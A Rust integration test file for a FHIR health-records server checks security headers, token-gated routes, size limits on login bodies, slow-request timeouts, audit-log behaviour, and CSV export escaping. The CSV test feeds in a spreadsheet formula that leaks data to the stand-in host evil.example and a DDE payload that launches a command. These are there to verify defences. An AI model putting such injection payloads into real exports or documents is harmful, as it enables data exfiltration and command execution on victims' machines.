//! Issue 12 (points 6, 7, 9) through the real server: discovery without a token (and nothing
//! else), security headers on every route, small bodies for routes without credentials, the
//! audit CSV export that never starts a formula, failed authentications that do not each write
//! a chained record, and the 503 with Retry-After of a full server.

use crate::common::*;
use musubi_store::Store;
use reqwest::Method;
use serde_json::{Value, json};

const FORMULA: &str = "=HYPERLINK(\"evil.example/?x=\"&A1,\"click\")";

fn assert_security_headers(h: &reqwest::header::HeaderMap, what: &str) {
    let get = |n: &str| h.get(n).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
    assert_eq!(get("x-content-type-options"), "nosniff", "{what}");
    assert!(get("cache-control").contains("no-store"), "{what}: cache-control {:?}", get("cache-control"));
    assert!(get("content-security-policy").contains("default-src 'none'"), "{what}");
    assert_eq!(get("x-frame-options"), "DENY", "{what}");
}

fn discovery(s: &TestServer) {
    let http = reqwest::blocking::Client::new();
    let r = http.get(format!("{}/metadata", s.base)).send().unwrap();
    assert_eq!(r.status(), 200);
    assert_security_headers(r.headers(), "metadata");
    let cs: Value = serde_json::from_str(&r.text().unwrap()).unwrap();
    assert_eq!(cs["resourceType"], "CapabilityStatement");
    let security = cs["rest"][0]["security"]["description"].as_str().unwrap();
    assert!(security.contains("Authorization: Bearer"), "{security}");
    assert!(security.contains("/api/login"), "{security}");
    let r = http.get(format!("{}/.well-known/smart-configuration", s.base)).send().unwrap();
    assert_eq!(r.status(), 200);
    let smart: Value = serde_json::from_str(&r.text().unwrap()).unwrap();
    assert!(smart["capabilities"].is_array(), "{smart}");
    assert!(smart["capability_statement"].as_str().unwrap().ends_with("/fhir/metadata"), "{smart}");
    // Nothing else answers without a token.
    for path in ["Patient", "Patient/x", "Observation?patient=x", "AuditEvent", "_history", "Patient/x/$everything"] {
        let r = http.get(format!("{}/{path}", s.base)).send().unwrap();
        assert_eq!(r.status(), 401, "{path}");
        assert!(r.headers()["www-authenticate"].to_str().unwrap().starts_with("Bearer"));
        assert_security_headers(r.headers(), path);
    }
    let r = http.post(format!("{}/Patient", s.base)).header("content-type", "application/fhir+json").body("{}").send();
    assert_eq!(r.unwrap().status(), 401);
}

#[test]
fn metadata_and_smart_configuration_answer_without_a_token_and_nothing_else_does() {
    discovery(&TestServer::start());
}

#[test]
fn security_headers_on_fhir_reads_api_answers_and_pages() {
    let s = TestServer::start();
    let c = s.client(&s.token("1318814790", "emr-headers"));
    let search = c.get("Patient?_count=1");
    assert_eq!(search.status, 200, "{}", search.text);
    assert_security_headers(&search.headers, "FHIR search");
    let read = c.get("Patient/does-not-exist");
    assert_eq!(read.status, 404);
    assert_security_headers(&read.headers, "FHIR read (404)");
    let me = api(&c, Method::GET, "/me", None);
    assert_eq!(me.status, 200, "{}", me.text);
    assert_security_headers(&me.headers, "/api/me");
    // A page keeps its own (stricter) policy.
    let page = reqwest::blocking::get(s.base.replace("/fhir", "/login")).unwrap();
    assert_eq!(page.status(), 200);
    assert_security_headers(page.headers(), "login page");
    assert!(page.headers()["content-security-policy"].to_str().unwrap().contains("form-action 'self'"));
}

#[test]
fn routes_without_credentials_take_only_small_bodies() {
    let s = TestServer::start();
    let http = reqwest::blocking::Client::new();
    let big = json!({"login": "x".repeat(300 * 1024), "password": "y"}).to_string();
    for path in ["/api/login", "/api/portal/register", "/api/portal/register-proxy"] {
        let r = http
            .post(s.base.replace("/fhir", path))
            .header("content-type", "application/json")
            .body(big.clone())
            .send()
            .unwrap();
        assert_eq!(r.status(), 413, "{path}");
        let body: Value = serde_json::from_str(&r.text().unwrap()).unwrap();
        assert_eq!(body["resourceType"], "OperationOutcome", "{path}");
    }
    // A web login form too.
    let form = format!("login={}&password=x", "x".repeat(300 * 1024));
    let r = http
        .post(s.base.replace("/fhir", "/login"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form)
        .send()
        .unwrap();
    assert_eq!(r.status(), 413);
    // A login of ordinary size is read and refused as usual.
    let r = api(&anon(&s), Method::POST, "/login", Some(json!({"login": "nobody", "password": "x"})));
    assert_eq!(r.status, 401, "{}", r.text);
    // An authenticated system may still send a large body (the ordinary limit applies).
    let c = s.client(&s.admin);
    let r = c.send(
        Method::POST,
        "Patient",
        json!({"resourceType": "Patient", "text": {"status": "generated", "div": "x".repeat(300 * 1024)}}).to_string(),
        "application/fhir+json",
    );
    assert_ne!(r.status, 413, "{}", r.text);
}

fn csv_case(s: &TestServer) {
    let r = api(
        &anon(s),
        Method::POST,
        "/portal/register-proxy",
        Some(json!({"name": "@SUM(1+1)*cmd|' /C calc'!A0", "login": FORMULA, "password": "Proxy-pass-2026"})),
    );
    assert_eq!(r.status, 200, "{}", r.text);
    let admin = s.client(&s.admin);
    let http = reqwest::blocking::Client::new();
    let csv = http
        .get(s.base.replace("/fhir", "/api/admin/audit-report?format=csv&limit=1000"))
        .bearer_auth(&admin.token)
        .send()
        .unwrap();
    assert_eq!(csv.status(), 200);
    assert_security_headers(csv.headers(), "CSV");
    let text = csv.text().unwrap();
    let escaped = FORMULA.replace('"', "\"\"");
    assert!(text.contains(&format!("\"'{escaped}\"")), "the formula is kept as text: {text}");
    for line in text.lines().skip(1) {
        for cell in line.split(",\"") {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell starts a formula: {line}");
        }
    }
}

#[test]
fn the_audit_csv_export_neutralises_formulas_sqlite() {
    csv_case(&TestServer::start());
}

#[test]
fn the_audit_csv_export_neutralises_formulas_postgres() {
    let db = FreshDb::new("musubi_hygiene_csv");
    let store = Store::open_postgres(&db.url).unwrap();
    csv_case(&TestServer::start_on(store, tempfile::tempdir().unwrap()));
}

fn failures_case(s: &TestServer) {
    let (before, _) = s.store.audit_head().unwrap();
    let http = reqwest::blocking::Client::new();
    for i in 0..30 {
        let r = http.get(format!("{}/Patient", s.base)).bearer_auth(format!("msb_forged{i}")).send().unwrap();
        assert_eq!(r.status(), 401);
    }
    let long_login = "=x".repeat(5000);
    for _ in 0..5 {
        let r = api(&anon(s), Method::POST, "/login", Some(json!({"login": long_login, "password": "x"})));
        // Refused, or throttled (429) once the login name has failed a few times.
        assert!(r.status == 401 || r.status == 429, "{}", r.text);
    }
    let (after, _) = s.store.audit_head().unwrap();
    // 35 failures from one source: at most a few summaries (a period may end during the test),
    // never one chained record each.
    assert!(after - before <= 4, "{} audit records for 35 failed authentications", after - before);
}

#[test]
fn failed_authentications_do_not_each_write_a_chained_record_sqlite() {
    failures_case(&TestServer::start());
}

#[test]
fn failed_authentications_do_not_each_write_a_chained_record_postgres() {
    let db = FreshDb::new("musubi_hygiene_failures");
    let store = Store::open_postgres(&db.url).unwrap();
    failures_case(&TestServer::start_on(store, tempfile::tempdir().unwrap()));
}

#[test]
fn a_full_server_answers_503_with_retry_after() {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open_sqlite(dir.path()).unwrap();
    let limits = musubi_server::limits::Limits { max_connections: 1, ..Default::default() };
    // No operator set-up: its requests would take the only place.
    let s = TestServer::start_bare(store, dir, musubi_server::ServerConfig { limits, ..Default::default() });
    // One connection holds the only place (a request whose headers never end).
    let addr = s.base.trim_start_matches("http://").trim_end_matches("/fhir").to_owned();
    let mut held = std::net::TcpStream::connect(&addr).unwrap();
    std::io::Write::write_all(&mut held, b"GET /fhir/metadata HTTP/1.1\r\nHost: x\r\n").unwrap();
    // The listener counts the held connection once it has accepted it.
    let mut status = 0;
    for _ in 0..50 {
        let r = reqwest::blocking::Client::new().get(format!("{}/metadata", s.base)).send();
        match r {
            Ok(r) if r.status() == 503 => {
                assert_eq!(r.headers()["retry-after"], "5");
                status = 503;
                break;
            }
            _ => std::thread::yield_now(),
        }
    }
    assert_eq!(status, 503);
    drop(held);
}

/// A server whose header and body-idle timeouts are short, and its `host:port`.
fn impatient() -> (TestServer, String) {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open_sqlite(dir.path()).unwrap();
    let limits = musubi_server::limits::Limits {
        header_timeout: std::time::Duration::from_millis(200),
        body_idle_timeout: std::time::Duration::from_millis(200),
        ..Default::default()
    };
    let s = TestServer::start_bare(store, dir, musubi_server::ServerConfig { limits, ..Default::default() });
    let addr = s.base.trim_start_matches("http://").trim_end_matches("/fhir").to_owned();
    (s, addr)
}

fn read_all(stream: &mut std::net::TcpStream) -> String {
    stream.set_read_timeout(Some(std::time::Duration::from_secs(20))).unwrap();
    let mut out = Vec::new();
    let _ = std::io::Read::read_to_end(stream, &mut out);
    String::from_utf8_lossy(&out).into_owned()
}

#[test]
fn a_client_that_never_finishes_its_headers_is_disconnected() {
    let (_s, addr) = impatient();
    let mut c = std::net::TcpStream::connect(&addr).unwrap();
    std::io::Write::write_all(&mut c, b"GET /fhir/metadata HTTP/1.1\r\nHost: x\r\nX-Slow: ").unwrap();
    let start = std::time::Instant::now();
    let answer = read_all(&mut c);
    assert!(start.elapsed() < std::time::Duration::from_secs(15), "closed by the header timeout");
    assert!(!answer.contains("200 OK"), "{answer}");
}

#[test]
fn a_body_that_stops_arriving_is_cut_off() {
    let (_s, addr) = impatient();
    let mut c = std::net::TcpStream::connect(&addr).unwrap();
    std::io::Write::write_all(
        &mut c,
        b"POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"login\":",
    )
    .unwrap();
    let answer = read_all(&mut c);
    assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");
    assert!(answer.contains("途中で止まった"), "{answer}");
}
